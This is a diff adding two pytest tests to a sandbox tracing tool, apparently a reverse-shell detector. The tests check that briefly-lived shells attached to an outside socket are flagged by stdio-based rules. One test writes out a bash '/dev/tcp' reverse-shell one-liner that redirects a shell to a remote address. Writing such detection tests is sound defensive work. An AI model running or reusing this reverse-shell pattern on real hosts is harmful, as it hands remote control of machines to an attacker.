@@ -146,6 +146,40 @@ def test_sh_on_a_socket_from_a_python_relay_script(testnet: NetNS, work: Path) -
     assert by_rule(run, CONNECT_THEN_SHELL), sorted(run.themes())
 
 
+def test_a_shell_on_a_socket_that_exits_at_once(testnet: NetNS, work: Path) -> None:
+    # The relay's shell runs one builtin and is gone within a millisecond: long before
+    # anything could read /proc/PID/fd. Its streams, captured at exec, still give it away.
+    (work / "once.py").write_text(RELAY.replace('["sh"]', '["sh", "-c", ":"]'))
+    catcher = testnet.shell_catcher(4451, "", hangup_s=1)
+    try:
+        run = sandtrace_run(testnet, f"{PYTHON} once.py {testnet.outside_addr} 4451; true", work)
+    finally:
+        catcher.kill()
+        catcher.wait()
+    [shell] = [e for e in run.events if e["kind"] == "exec" and e["argv"] == ["sh", "-c", ":"]]
+    peer = f"tcp:{testnet.outside_addr}:4451"
+    assert shell["stdio"] == [peer, peer, peer], shell["stdio"]
+    for rule in (STDIO_SHELL, STDIO_SAME_SOCKET):
+        assert shell["process"]["pid"] in {a["process"]["pid"] for a in by_rule(run, rule)}, rule
+
+
+def test_a_shell_run_on_an_inherited_socket_for_one_builtin(testnet: NetNS, work: Path) -> None:
+    # The operator's socket sits on fd 3 of a bash that stays quiet; each command is a
+    # one-shot 'sh -c CMD <&3 >&3' done in a millisecond.
+    catcher = testnet.shell_catcher(4452, "", hangup_s=1)
+    script = f"bash -c 'exec 3<>/dev/tcp/{testnet.outside_addr}/4452; sh -c : <&3 >&3'; true"
+    try:
+        run = sandtrace_run(testnet, script, work)
+    finally:
+        catcher.kill()
+        catcher.wait()
+    [shell] = [e for e in run.events if e["kind"] == "exec" and e["argv"] == ["sh", "-c", ":"]]
+    peer = f"tcp:{testnet.outside_addr}:4452"
+    assert shell["stdio"][:2] == [peer, peer], shell["stdio"]
+    for rule in (STDIO_SHELL, STDIO_SAME_SOCKET):
+        assert shell["process"]["pid"] in {a["process"]["pid"] for a in by_rule(run, rule)}, rule
+
+
 def _wheel(dist: Path) -> Path:
     """A minimal pure-Python wheel, built without network or build tools."""
     dist.mkdir()
